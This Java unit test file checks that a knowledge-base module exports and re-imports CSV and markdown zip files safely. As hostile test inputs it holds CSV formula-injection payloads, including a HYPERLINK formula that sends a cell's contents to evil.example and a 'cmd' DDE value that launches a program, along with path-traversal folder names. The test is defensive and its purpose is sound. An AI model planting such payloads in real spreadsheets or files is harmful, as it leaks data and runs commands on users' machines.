package io.oriole.knowledge.internal;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import java.time.Instant;
import java.util.List;

import org.junit.jupiter.api.Test;

import io.oriole.knowledge.EntryStatus;
import io.oriole.knowledge.InvalidEntryException;
import io.oriole.knowledge.KnowledgeEntry;
import io.oriole.triage.Language;

class KnowledgeFilesTests {

    static final KnowledgeEntry ADDRESS = new KnowledgeEntry(7, 1, "怎么修改收货地址", "打开「我的订单」，点击\n\"修改地址\", 保存。",
            List.of("收货地址填错了怎么办", "下单后还能改地址吗"), "delivery", Language.ZH, List.of("地址", "订单"),
            EntryStatus.PUBLISHED, 3, Instant.EPOCH, Instant.EPOCH, "admin@example.com");

    @Test
    void csvExportReadsBackTheSameContentWithQuotesCommasAndLineBreaks() {
        List<KnowledgeFiles.Row> rows = KnowledgeFiles.fromCsv(KnowledgeFiles.toCsv(List.of(ADDRESS)));

        assertThat(rows).singleElement().satisfies(r -> {
            assertThat(r.id()).isEqualTo(7L);
            assertThat(r.draft().title()).isEqualTo(ADDRESS.title());
            assertThat(r.draft().body()).isEqualTo(ADDRESS.body());
            assertThat(r.draft().phrasings()).isEqualTo(ADDRESS.phrasings());
            assertThat(r.draft().tags()).isEqualTo(ADDRESS.tags());
            assertThat(r.draft().language()).isEqualTo(Language.ZH);
            assertThat(r.draft().status()).isEqualTo(EntryStatus.PUBLISHED);
        });
    }

    @Test
    void markdownFolderExportReadsBackTheSameContent() {
        List<KnowledgeFiles.Row> rows = KnowledgeFiles.fromMarkdownZip(KnowledgeFiles.toMarkdownZip(List.of(ADDRESS)));

        assertThat(rows).singleElement().satisfies(r -> {
            assertThat(r.id()).isEqualTo(7L);
            assertThat(r.draft().title()).isEqualTo(ADDRESS.title());
            assertThat(r.draft().body()).isEqualTo(ADDRESS.body());
            assertThat(r.draft().phrasings()).isEqualTo(ADDRESS.phrasings());
            assertThat(r.draft().category()).isEqualTo("delivery");
        });
    }

    @Test
    void csvCellsASpreadsheetWouldRunAsFormulasAreExportedAsTextAndReadBackAsWritten() {
        KnowledgeEntry hostile = new KnowledgeEntry(8, 1, "=HYPERLINK(\"http://evil.example/?\"&A1,\"Refund\")",
                "+1 555 0100 or -2 days @noon", List.of("-5% off?", "@SUM(A1:A9)"), "@billing", Language.EN,
                List.of("=cmd|' /C calc'!A0", "'=already quoted", "'plain'"), EntryStatus.PUBLISHED, 1,
                Instant.EPOCH, Instant.EPOCH, "admin@example.com");

        byte[] csv = KnowledgeFiles.toCsv(List.of(hostile));

        List<String> cells = KnowledgeFiles.parseCsv(new String(csv, StandardCharsets.UTF_8)).get(1);
        assertThat(cells).allSatisfy(cell -> assertThat(cell).doesNotStartWith("=").doesNotStartWith("+")
                .doesNotStartWith("-").doesNotStartWith("@").doesNotStartWith("\t").doesNotStartWith("\r"));
        assertThat(cells.get(1)).startsWith("'=HYPERLINK(");
        assertThat(cells.get(5)).isEqualTo("'=cmd|' /C calc'!A0;'=already quoted;'plain'");
        assertThat(KnowledgeFiles.fromCsv(csv)).singleElement().satisfies(r -> {
            assertThat(r.draft().title()).isEqualTo(hostile.title());
            assertThat(r.draft().body()).isEqualTo(hostile.body());
            assertThat(r.draft().phrasings()).isEqualTo(hostile.phrasings());
            assertThat(r.draft().category()).isEqualTo("@billing");
            assertThat(r.draft().tags()).isEqualTo(hostile.tags());
        });
    }

    @Test
    void aNeutralisedCellReadsBackAsTheTextThatWasExportedEvenWhenItStartedWithApostrophes() {
        for (String text : List.of("=1+1", "'=1+1", "''@x", "-", "\tTab", "'quoted'", "plain", "it's", "")) {
            assertThat(KnowledgeFiles.restored(KnowledgeFiles.neutralised(text))).as(text).isEqualTo(text);
        }
        assertThat(KnowledgeFiles.neutralised("'=1+1")).isEqualTo("''=1+1");
        assertThat(KnowledgeFiles.neutralised("'quoted'")).isEqualTo("'quoted'");
    }

    @Test
    void markdownFolderNamesNeverLeadOutOfTheFolderTheZipIsUnpackedInto() throws IOException {
        List<String> categories = List.of("..", ".", "...", "../../etc", "..\\..\\windows", "a/../../b", "/abs",
                "con", "billing.");
        List<KnowledgeEntry> entries = new ArrayList<>();
        for (int i = 0; i < categories.size(); i++) {
            entries.add(new KnowledgeEntry(100 + i, 1, "Entry " + i, "Answer " + i, List.of(), categories.get(i),
                    Language.EN, List.of(), EntryStatus.PUBLISHED, 1, Instant.EPOCH, Instant.EPOCH, "a@example.com"));
        }

        byte[] zip = KnowledgeFiles.toMarkdownZip(entries);

        Path target = Path.of("unpacked");
        List<String> names = new ArrayList<>();
        try (ZipInputStream in = new ZipInputStream(new ByteArrayInputStream(zip), StandardCharsets.UTF_8)) {
            for (ZipEntry z; (z = in.getNextEntry()) != null;) {
                names.add(z.getName());
            }
        }
        assertThat(names).hasSize(categories.size()).allSatisfy(name -> {
            assertThat(target.resolve(name).normalize().startsWith(target)).as(name).isTrue();
            assertThat(name.split("/")).as(name).hasSize(2).doesNotContain("..", ".", "");
            assertThat(name).doesNotContain("\\");
        });
        assertThat(names).contains("general/100-entry.md", "etc/103-entry.md", "a-b/105-entry.md",
                "abs/106-entry.md", "_con/107-entry.md", "billing/108-entry.md");
        assertThat(KnowledgeFiles.fromMarkdownZip(zip)).extracting(r -> r.draft().category())
                .containsExactlyElementsOf(categories);
    }

    @Test
    void aBadRowIsReportedWithItsLineAndField() {
        String csv = "title,phrasings,category,language,tags,status,body\n"
                + "Refunds,,refunds,en,,PUBLISHED,Go to My orders\n"
                + "Invoices,,invoices,fr,,PUBLISHED,Click Request invoice\n";

        assertThatThrownBy(() -> KnowledgeFiles.fromCsv(csv.getBytes(StandardCharsets.UTF_8)))
                .isInstanceOf(InvalidEntryException.class).hasMessage("language line 3: must be zh or en")
                .extracting(e -> ((InvalidEntryException) e).field()).isEqualTo("language");
    }

    @Test
    void aFileWithoutTheNeededColumnsOrNotUtf8IsRejected() {
        assertThatThrownBy(() -> KnowledgeFiles.fromCsv("question,answer\na,b\n".getBytes(StandardCharsets.UTF_8)))
                .hasMessageContaining("header must name the column title");
        assertThatThrownBy(() -> KnowledgeFiles.fromCsv(new byte[] { (byte) 0xff, (byte) 0xfe, 0x41 }))
                .hasMessageContaining("not UTF-8");
        assertThatThrownBy(() -> KnowledgeFiles.fromMarkdownZip("not a zip".getBytes(StandardCharsets.UTF_8)))
                .isInstanceOf(InvalidEntryException.class);
    }
}
